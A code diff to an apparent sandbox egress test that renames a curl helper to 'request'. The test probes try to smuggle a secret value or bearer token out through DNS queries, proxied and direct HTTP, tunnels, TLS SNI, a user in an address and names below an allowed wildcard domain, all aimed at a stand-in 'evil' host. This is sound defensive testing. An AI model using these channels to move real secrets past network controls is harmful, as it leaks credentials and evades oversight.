@@ -1,6 +1,7 @@
 import type { Finding } from "../case.ts";
 import { formatQuery } from "../internet/dns_query.ts";
-import { curl, everyProxy, raw, udp } from "../internet/probes.ts";
+import { everyProxy, raw, udp } from "../internet/probes.ts";
+import { request } from "./asking.ts";
 import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
 import { isAnswered, isDenied, listArrivals } from "./seen.ts";
 import { TOKEN_HOMES, TOKENS } from "./tokens.ts";
@@ -12,7 +13,7 @@ async function checkTokens(given: SecretsGiven): Promise<Finding | { notApplicab
   const { internet, probe } = given.guarded;
   const { echo } = internet.addresses;
   const send = (id: string, { token, host }: { token: string; host: string }) =>
-    curl(id, ["-H", `authorization: Bearer ${token}`, `http://${host}/`]);
+    request(id, ["-H", `authorization: Bearer ${token}`, `http://${host}/`]);
   return await whereStopped(given, async () => {
     for (const host of TOKEN_HOMES) internet.script(host, { answers: [[echo]] });
     const outcomes = await probe(TOKENS.flatMap(([what, token, home]) => [
@@ -45,23 +46,23 @@ async function checkNames(given: SecretsGiven): Promise<Finding | { notApplicabl
   const direct = { env: everyProxy(null) };
   const tries = [
     udp("a question to the gateway", { hex: formatQuery(`${value}.${SITE.evil}`) }),
-    curl("a client without a proxy", [`http://${value}.${SITE.evil}/`], direct),
-    curl("plain HTTP through the proxy", [`http://${value}.${SITE.evil}/`]),
-    curl("a tunnel", [`https://${value}.${SITE.evil}/`]),
+    request("a client without a proxy", [`http://${value}.${SITE.evil}/`], direct),
+    request("plain HTTP through the proxy", [`http://${value}.${SITE.evil}/`]),
+    request("a tunnel", [`https://${value}.${SITE.evil}/`]),
     raw("a name in TLS", {
       ...{ host: "@gateway", port: 443, tls: { sni: `${value}.${SITE.evil}` } },
     }),
-    curl("a user in the address", [`http://${value}:x@${SITE.closed}/`]),
-    curl("below an allowed name", [`http://${value}.${SITE.wild}/`]),
-    curl("below an allowed name, without a proxy", [`http://${value}.${SITE.wild}/`], direct),
-    curl("a tunnel below an allowed name", [`https://${value}.${SITE.wild}/`]),
+    request("a user in the address", [`http://${value}:x@${SITE.closed}/`]),
+    request("below an allowed name", [`http://${value}.${SITE.wild}/`]),
+    request("below an allowed name, without a proxy", [`http://${value}.${SITE.wild}/`], direct),
+    request("a tunnel below an allowed name", [`https://${value}.${SITE.wild}/`]),
     raw("TLS below an allowed name, in capitals and two labels", {
       ...{ host: "@gateway", port: 443 },
       tls: { sni: `${value.slice(0, 20)}.${value.slice(20)}.${SITE.wild}`.toUpperCase() },
     }),
   ];
   return await whereStopped(given, async () => {
-    await probe([...tries, curl("control", [`http://tried.${SITE.wild}/`])]);
+    await probe([...tries, request("control", [`http://tried.${SITE.wild}/`])]);
     const events = await internet.events();
     // Names know no case, and a long one takes several labels.
     const letters = (text: string) => text.toLowerCase().replaceAll(".", "");
